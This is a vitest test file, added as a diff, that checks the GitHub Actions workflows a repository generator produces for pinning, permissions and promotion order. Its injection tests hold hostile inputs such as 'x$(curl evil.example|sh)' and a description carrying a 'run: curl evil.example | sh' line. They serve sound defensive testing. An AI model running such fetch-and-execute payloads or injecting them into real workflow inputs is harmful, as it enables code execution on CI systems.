@@ -1,0 +1,251 @@
+/**
+ * The standard pipeline of generated repositories and this repository's own workflows, proven with the real
+ * third-party checks (SchemaStore's schemas, actionlint) and with the rules the platform promises: pinned
+ * actions, least-privilege permissions, no expressions in shell scripts, promotion in the order asked for.
+ */
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { render } from '../src/render/render.js';
+import { runtimeById } from '../src/render/runtimes.js';
+import type { Answers } from '../src/manifest/answers.js';
+import { answerMatrix, defaultSource, generateTemp, manifestFor, repoRoot } from './helpers/repo.js';
+import {
+  actionlintProblems,
+  needsOf,
+  ownReferences,
+  permissionProblems,
+  pinProblems,
+  promotionChain,
+  readWorkflows,
+  runExpressionProblems,
+  schemaProblems,
+  thirdPartyPins,
+  type WorkflowFile,
+} from './helpers/workflow-checks.js';
+
+const settings = defaultSource().settings;
+const own = ownReferences(settings);
+const actionsYaml = parse(readFileSync(join(repoRoot, 'templates/service/versions/actions.yaml'), 'utf8')) as Record<
+  string,
+  { action: string; sha: string; version: string }
+>;
+
+function workflow(dir: string, file: string): WorkflowFile {
+  const found = readWorkflows(dir).find((candidate) => candidate.path === `.github/workflows/${file}`);
+  if (!found) throw new Error(`${dir} has no .github/workflows/${file}`);
+  return found;
+}
+
+/** This repository's reusable workflow that an organization `uses:` points at, or undefined for another. */
+function reusableTarget(uses: string): WorkflowFile | undefined {
+  const prefix = `${settings.workflows.repository}/.github/workflows/`;
+  if (!uses.startsWith(prefix)) return undefined;
+  const file = uses.slice(prefix.length).split('@')[0]!;
+  return workflow(repoRoot, file);
+}
+
+const LEVEL = { none: 0, read: 1, write: 2 } as Record<string, number>;
+
+describe('generated workflows, for every case of the answer matrix', () => {
+  describe.each(answerMatrix())('$id', ({ answers }) => {
+    const dir = generateTemp(answers);
+    const runtime = runtimeById(answers.runtime!)!;
+
+    it('has the pipeline, the platform validation and dependabot.yml', () => {
+      expect(readWorkflows(dir).map((file) => file.path)).toEqual(['.github/workflows/pipeline.yml', '.github/workflows/platform.yml']);
+      expect(existsSync(join(dir, '.github/dependabot.yml'))).toBe(true);
+    });
+
+    it('validates against github-workflow.json, and dependabot.yml against dependabot-2.0.json', () => {
+      expect(schemaProblems(dir)).toEqual([]);
+    });
+
+    it('passes actionlint', async () => {
+      expect(await actionlintProblems(dir)).toEqual([]);
+    });
+
+    it('pins third-party actions by commit SHA and the organization by the settings tag', () => {
+      expect(pinProblems(dir, own)).toEqual([]);
+      for (const pin of thirdPartyPins(dir, own)) {
+        const known = Object.values(actionsYaml).find((entry) => entry.action === pin.action);
+        expect(known, `${pin.where}: ${pin.action} is not in versions/actions.yaml`).toBeDefined();
+        expect({ sha: pin.sha, version: pin.version }).toEqual({ sha: known!.sha, version: known!.version });
+      }
+    });
+
+    it('declares read-only permissions at the top, never write-all, and no ${{ }} inside run:', () => {
+      expect(permissionProblems(dir)).toEqual([]);
+      expect(runExpressionProblems(dir)).toEqual([]);
+      for (const file of readWorkflows(dir)) expect(file.value.permissions).toEqual({});
+    });
+
+    it('builds and tests on pull requests and pushes to main with the reusable workflow of its runtime', () => {
+      const pipeline = workflow(dir, 'pipeline.yml').value;
+      expect(Object.keys(pipeline.on).sort()).toEqual(['pull_request', 'push']);
+      expect(pipeline.on.push.branches).toEqual(['main']);
+      expect(pipeline.jobs.build.uses).toBe(`${settings.workflows.repository}/.github/workflows/${runtime.buildWorkflow}@${settings.workflows.ref}`);
+      expect(pipeline.jobs.build.if).toBeUndefined();
+      expect(pipeline.jobs.build.permissions).toEqual({ contents: 'read' });
+    });
+
+    it('pushes the image <registry>/<name>:<commit SHA> only on pushes to main, after the build', () => {
+      const { image } = workflow(dir, 'pipeline.yml').value.jobs;
+      expect(needsOf(image)).toEqual(['build']);
+      expect(image.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
+      expect(image.with).toEqual({ image: `${settings.registry}/${answers.name}`, tag: '${{ github.sha }}' });
+      expect(image.permissions).toEqual({ contents: 'read', packages: 'write' });
+    });
+
+    it('promotes through exactly the environments asked for, in their order, each after the previous', () => {
+      const pipeline = workflow(dir, 'pipeline.yml');
+      expect(promotionChain(pipeline)).toEqual(answers.environments);
+      for (const env of answers.environments!) {
+        const job = pipeline.value.jobs[`promote-${env}`];
+        expect(job.with).toEqual({ environment: env, image: `${settings.registry}/${answers.name}`, tag: '${{ github.sha }}' });
+        expect(job.permissions).toEqual({ contents: 'write' });
+      }
+      const promotions = Object.values<any>(pipeline.value.jobs).filter((job) => String(job.uses).includes('/promote.yml@'));
+      expect(promotions).toHaveLength(answers.environments!.length);
+    });
+
+    it('calls the reusable workflows with inputs and secrets they declare and the permissions they need', () => {
+      for (const [id, job] of Object.entries<any>(workflow(dir, 'pipeline.yml').value.jobs)) {
+        const target = reusableTarget(job.uses);
+        expect(target, `job ${id} calls ${job.uses}, which is not in this repository`).toBeDefined();
+        const call = target!.value.on.workflow_call;
+        const inputs = call.inputs ?? {};
+        expect(Object.keys(job.with ?? {}).filter((name) => !(name in inputs)), `job ${id}`).toEqual([]);
+        const required = Object.entries<any>(inputs).filter(([, input]) => input.required).map(([name]) => name);
+        expect(required.filter((name) => !(name in (job.with ?? {}))), `job ${id}`).toEqual([]);
+        expect(Object.keys(job.secrets ?? {}).filter((name) => !(name in (call.secrets ?? {}))), `job ${id}`).toEqual([]);
+        // The caller's permissions cap the called workflow's token: every scope a called job asks for must be granted.
+        for (const called of Object.values<any>(target!.value.jobs)) {
+          for (const [scope, level] of Object.entries<string>(called.permissions ?? {})) {
+            expect(LEVEL[job.permissions?.[scope] ?? 'none'], `job ${id}: ${scope}`).toBeGreaterThanOrEqual(LEVEL[level]!);
+          }
+        }
+      }
+    });
+
+    it('validates the repository with the platform Action on every pull request and uploads its SARIF', () => {
+      const platform = workflow(dir, 'platform.yml').value;
+      expect(platform.on).toHaveProperty('pull_request');
+      const job = platform.jobs.validate;
+      expect(job.permissions).toEqual({ contents: 'read', 'pull-requests': 'write', 'security-events': 'write', actions: 'read' });
+      const action = job.steps.find((step: any) => step.uses === `${settings.action.repository}@${settings.action.ref}`);
+      expect(action).toBeDefined();
+      const declared = Object.keys((parse(readFileSync(join(repoRoot, 'action.yml'), 'utf8')) as any).inputs);
+      expect(Object.keys(action.with).filter((input) => !declared.includes(input))).toEqual([]);
+      const upload = job.steps.find((step: any) => String(step.uses).startsWith('github/codeql-action/upload-sarif@'));
+      expect(upload.with.sarif_file).toBe(action.with['sarif-file']);
+      expect(upload.if).toContain('!cancelled()');
+    });
+
+    it("keeps Dependabot on the runtime's ecosystem and away from the platform's managed workflows", () => {
+      const dependabot = parse(readFileSync(join(dir, '.github/dependabot.yml'), 'utf8'));
+      const ecosystems = dependabot.updates.map((update: any) => update['package-ecosystem']);
+      expect(ecosystems).toEqual([runtime.dependabotEcosystem, 'docker', 'github-actions']);
+      const record = JSON.parse(readFileSync(join(dir, '.yo-rc.json'), 'utf8'))['generator-platform'];
+      const managedWorkflows = Object.entries<any>(record.files)
+        .filter(([path, file]) => path.startsWith('.github/workflows/') && file.mode === 'managed')
+        .map(([path]) => path);
+      const actions = dependabot.updates.find((update: any) => update['package-ecosystem'] === 'github-actions');
+      expect(actions['exclude-paths']).toEqual(managedWorkflows);
+    });
+  });
+});
+
+describe('answers cannot reach the workflows', () => {
+  const workflowsOf = (answers: Partial<Answers>): string =>
+    render(manifestFor(answers), defaultSource())
+      .files.filter((file) => file.path.startsWith('.github/workflows/'))
+      .map((file) => `--- ${file.path}\n${file.content}`)
+      .join('\n');
+
+  it.each([
+    ['name', { name: '${{ github.event.issue.title }}' }],
+    ['name', { name: 'x$(curl evil.example|sh)' }],
+    ['owner', { owner: '${{ github.event.issue.title }}' }],
+    ['description', { description: '${{ github.event.issue.title }}' }],
+    ['description', { description: 'a\nrun: curl evil.example | sh' }],
+  ] as Array<[string, Partial<Answers>]>)('rejects an answer that tries to inject into %s', (field, answers) => {
+    expect(() => manifestFor(answers)).toThrow(new RegExp(field));
+  });
+
+  it('uses no answer but the validated name, runtime and environments', () => {
+    const base: Partial<Answers> = { name: 'alpha-one', runtime: 'python', environments: ['dev', 'prod'] };
+    const plain = workflowsOf({ ...base, owner: 'team-a', description: 'A service', databases: [], secrets: [] });
+    // Everything else a person can type, at its most awkward: the workflows must not change at all.
+    const awkward = workflowsOf({
+      ...base,
+      owner: 'team-zeta',
+      description: `Payments: "quoted" 'single' # not a comment | pipe & amp % 100 *alias !tag`,
+      databases: [{ name: 'main', engine: 'postgres', version: '16', backups: true }],
+      secrets: [{ name: 'stripe-api-key', env: 'STRIPE_API_KEY', path: 'payments/stripe' }],
+    });
+    expect(awkward).toBe(plain);
+    // The name reaches them only as itself, where the image and the comments name the service.
+    const renamed = workflowsOf({ ...base, name: 'beta-two', owner: 'team-a', description: 'A service' });
+    expect(renamed).not.toBe(plain);
+    expect(renamed.replaceAll('beta-two', 'alpha-one')).toBe(plain);
+  });
+});
+
+describe("this repository's own workflows", () => {
+  const files = readWorkflows(repoRoot);
+
+  it('include ci.yml and the reusable workflows that generated pipelines call', () => {
+    const names = files.map((file) => file.path.replace('.github/workflows/', ''));
+    expect(names).toEqual(expect.arrayContaining(['ci.yml', 'node-build.yml', 'python-build.yml', 'image.yml', 'promote.yml']));
+    for (const name of ['node-build.yml', 'python-build.yml', 'image.yml', 'promote.yml']) {
+      expect(Object.keys(workflow(repoRoot, name).value.on)).toEqual(['workflow_call']);
+    }
+  });
+
+  it('validate against github-workflow.json and pass actionlint', async () => {
+    expect(schemaProblems(repoRoot)).toEqual([]);
+    expect(await actionlintProblems(repoRoot)).toEqual([]);
+  });
+
+  it('pin every third-party action by the SHA and version of versions/actions.yaml', () => {
+    expect(pinProblems(repoRoot, own)).toEqual([]);
+    const pins = thirdPartyPins(repoRoot, own);
+    expect(pins.length).toBeGreaterThan(0);
+    for (const pin of pins) {
+      const known = Object.values(actionsYaml).find((entry) => entry.action === pin.action);
+      expect(known, `${pin.where}: ${pin.action} is not in versions/actions.yaml`).toBeDefined();
+      expect({ where: pin.where, sha: pin.sha, version: pin.version }).toEqual({ where: pin.where, sha: known!.sha, version: known!.version });
+    }
+  });
+
+  it('declare read-only permissions at the top, never write-all, and no ${{ }} inside run:', () => {
+    expect(permissionProblems(repoRoot)).toEqual([]);
+    expect(runExpressionProblems(repoRoot)).toEqual([]);
+  });
+
+  it('ci.yml builds and tests on Node 20 and 22 and checks the committed Action bundle', () => {
+    const ci = workflow(repoRoot, 'ci.yml').value;
+    expect(Object.keys(ci.on).sort()).toEqual(['pull_request', 'push']);
+    expect(ci.jobs.test.strategy.matrix.node).toEqual(['20', '22']);
+    const runs = (job: any): string => job.steps.map((step: any) => step.run ?? '').join('\n');
+    expect(runs(ci.jobs.test)).toMatch(/^npm ci$/m);
+    expect(runs(ci.jobs.test)).toMatch(/^npm test$/m);
+    expect(runs(ci.jobs.test)).toContain('postgresql-15');
+    expect(runs(ci.jobs.bundle)).toMatch(/^npm run bundle$/m);
+    expect(runs(ci.jobs.bundle)).toContain('git diff --exit-code');
+    expect(runs(ci.jobs.bundle)).toContain('-- dist/action');
+  });
+});
+
+describe('versions/actions.yaml', () => {
+  it('pins each action by a full commit SHA and names its release', () => {
+    expect(Object.keys(actionsYaml).length).toBeGreaterThan(0);
+    for (const [key, entry] of Object.entries(actionsYaml)) {
+      expect(entry.action, key).toMatch(/^[a-z0-9-]+\/[a-z0-9._-]+(\/[a-z0-9._-]+)*$/);
+      expect(entry.sha, key).toMatch(/^[0-9a-f]{40}$/);
+      expect(entry.version, key).toMatch(/^v\d+\.\d+\.\d+$/);
+    }
+  });
+});
